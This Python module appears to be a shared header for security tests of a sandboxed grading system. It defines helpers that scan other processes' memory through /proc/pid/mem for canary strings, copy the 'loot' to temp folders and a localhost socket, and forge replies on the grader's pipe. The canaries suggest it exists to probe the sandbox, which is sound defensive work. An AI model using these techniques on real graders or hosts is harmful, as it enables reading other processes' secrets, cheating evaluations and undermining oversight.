"""What an attacker knows; put in front of each attack on the child, with the real values.

An attacker who has read this repository knows all paths, the port of a helper outside, and how
to recognise loot.
"""

import atexit
import ctypes
import gc
import inspect
import json
import mmap
import os
import re
import resource
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

import numpy as np
import torch

COURSE = "/course"
PORT = 0
REFERENCE = "/course/solutions/vault/answers.py"
REPLY = 4  # the child's pipe to the grader
TOOLS = (atexit, gc, inspect, mmap, np, resource, signal, subprocess, sys, threading, time, torch)


def libc() -> ctypes.CDLL:
    """The C library: system calls without Python in between."""
    return ctypes.CDLL(None, use_errno=True)


def tell(found: object) -> None:
    """Carry loot out: on the screen, in files, over the network, in an error."""
    text = str(found)
    print(text)
    for folder in (COURSE, "/tmp", "/dev/shm", "/var/tmp"):
        try:
            Path(folder, "attack_loot").write_text(text)
        except OSError:
            continue
    try:
        socket.create_connection(("127.0.0.1", PORT), 0.2).sendall(text.encode())
    except OSError:
        pass
    raise ValueError(text[:1000])


def loot(data: bytes) -> list[str]:
    """The canaries in some bytes."""
    return [each.decode() for each in set(re.findall(rb"canary_[a-z]+_[0-9a-f]{16}", data))]


def others() -> list[int]:
    """Process ids, those of the grader among them."""
    try:
        found = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        found = [os.getppid(), *range(1, 200)]
    return [pid for pid in found if pid != os.getpid()]


def memory_of(pid: int | str) -> list[str]:
    """The canaries in a process' memory."""
    found: list[str] = []
    for start, end in parts_of(pid):
        size = min(end - start, 64 << 20)
        try:
            if pid == "self":
                found += loot(ctypes.string_at(start, size))
                continue
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(start)
                found += loot(memory.read(size))
        except (OSError, ValueError, OverflowError):
            continue
    return found


def parts_of(pid: int | str) -> list[tuple[int, int]]:
    """Start and end of a process' memory that may be written and is in no file."""
    with open(f"/proc/{pid}/maps") as maps:
        lines = [each.split() for each in maps if " rw" in each and " /" not in each]
    return [(int(a, 16), int(b, 16)) for a, b in (each[0].split("-") for each in lines)]


def frame(*outcome: object) -> bytes:
    """A reply as the child would send it."""
    header = json.dumps(outcome).encode()
    return struct.pack(">II", 4 + len(header), len(header)) + header
